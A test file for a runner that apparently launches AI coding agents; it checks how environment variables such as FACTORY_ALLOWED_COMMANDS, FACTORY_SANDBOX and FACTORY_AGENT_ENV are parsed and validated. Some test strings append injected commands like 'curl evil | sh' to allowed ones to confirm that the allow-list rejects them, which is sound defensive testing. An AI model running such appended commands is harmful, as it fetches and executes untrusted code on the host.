import os from "node:os";
import { agentEnvNamesFromEnv, localRunnerOptionsFromEnv } from "../../src/runner/options.js";

test("defaults: the OS temp dir, two tasks, one per repository, no commands allowed, no agent variables, bwrap where installed", () => {
  const env = { PATH: "/usr/bin" };
  expect(localRunnerOptionsFromEnv(env)).toEqual({
    workdir: os.tmpdir(),
    maxTasks: 2,
    maxTasksPerRepo: 1,
    allowedCommands: null,
    agentEnvNames: [],
    env,
    sandbox: { requested: "default", bwrapPath: "/usr/bin/bwrap" },
  });
});

test("FACTORY_SANDBOX is read with the others, and a wrong value names it", () => {
  expect(localRunnerOptionsFromEnv({ FACTORY_SANDBOX: "none", PATH: "/nowhere" }).sandbox).toEqual({
    requested: "none",
    bwrapPath: null,
  });
  expect(() => localRunnerOptionsFromEnv({ FACTORY_SANDBOX: "off" })).toThrow(/^FACTORY_SANDBOX must be/);
});

test("reads every FACTORY_* variable of the local runner", () => {
  const options = localRunnerOptionsFromEnv({
    FACTORY_WORKDIR: "/srv/factory",
    FACTORY_MAX_TASKS: "4",
    FACTORY_MAX_TASKS_PER_REPO: "3",
    FACTORY_ALLOWED_COMMANDS: '["droid exec --auto medium -f \\"\\\\$FACTORY_TASK_FILE\\"", "npm (test|run lint)"]',
    FACTORY_AGENT_ENV: " ANTHROPIC_API_KEY, OPENAI_API_KEY ,",
  });

  expect(options.workdir).toBe("/srv/factory");
  expect(options.maxTasks).toBe(4);
  expect(options.maxTasksPerRepo).toBe(3);
  expect(options.agentEnvNames).toEqual(["ANTHROPIC_API_KEY", "OPENAI_API_KEY"]);
  const [droid, npm] = options.allowedCommands ?? [];
  expect(npm?.test("npm run lint")).toBe(true);
  // Patterns match whole commands: nothing may be appended, prepended or put on a second line.
  expect(npm?.test("npm run lint; curl evil")).toBe(false);
  expect(npm?.test("curl evil; npm test")).toBe(false);
  expect(npm?.test("npm test\ncurl evil")).toBe(false);
  expect(droid?.test('droid exec --auto medium -f "$FACTORY_TASK_FILE"')).toBe(true);
  expect(droid?.test('droid exec --auto medium -f "$FACTORY_TASK_FILE"; curl evil | sh')).toBe(false);
});

test.each([
  [{ FACTORY_ALLOWED_COMMANDS: "^npm test$" }, /^FACTORY_ALLOWED_COMMANDS must be a JSON array of regular expressions/],
  [{ FACTORY_ALLOWED_COMMANDS: '{"a": 1}' }, /^FACTORY_ALLOWED_COMMANDS must be a JSON array of strings/],
  [
    { FACTORY_ALLOWED_COMMANDS: '["ok", "(unclosed"]' },
    /^FACTORY_ALLOWED_COMMANDS\[1\] is not a valid regular expression/,
  ],
  [{ FACTORY_MAX_TASKS: "0" }, /^FACTORY_MAX_TASKS must be a positive whole number/],
  [{ FACTORY_MAX_TASKS: "two" }, /^FACTORY_MAX_TASKS must be a positive whole number/],
  [{ FACTORY_MAX_TASKS_PER_REPO: "0" }, /^FACTORY_MAX_TASKS_PER_REPO must be a positive whole number/],
  [{ FACTORY_AGENT_ENV: "API KEY" }, /^FACTORY_AGENT_ENV lists "API KEY"/],
  [
    { FACTORY_AGENT_ENV: "ANTHROPIC_API_KEY,PRIVATE_KEY" },
    /^FACTORY_AGENT_ENV lists PRIVATE_KEY, one of the bot's own credentials/,
  ],
])("rejects %j with an error naming the variable", (env, message) => {
  expect(() => localRunnerOptionsFromEnv(env)).toThrow(message);
});

test("the CI task verb reads FACTORY_AGENT_ENV alone, ignoring a malformed allow-list it does not use", () => {
  expect(agentEnvNamesFromEnv({ FACTORY_AGENT_ENV: "OPENAI_API_KEY", FACTORY_ALLOWED_COMMANDS: "not json" })).toEqual([
    "OPENAI_API_KEY",
  ]);
});
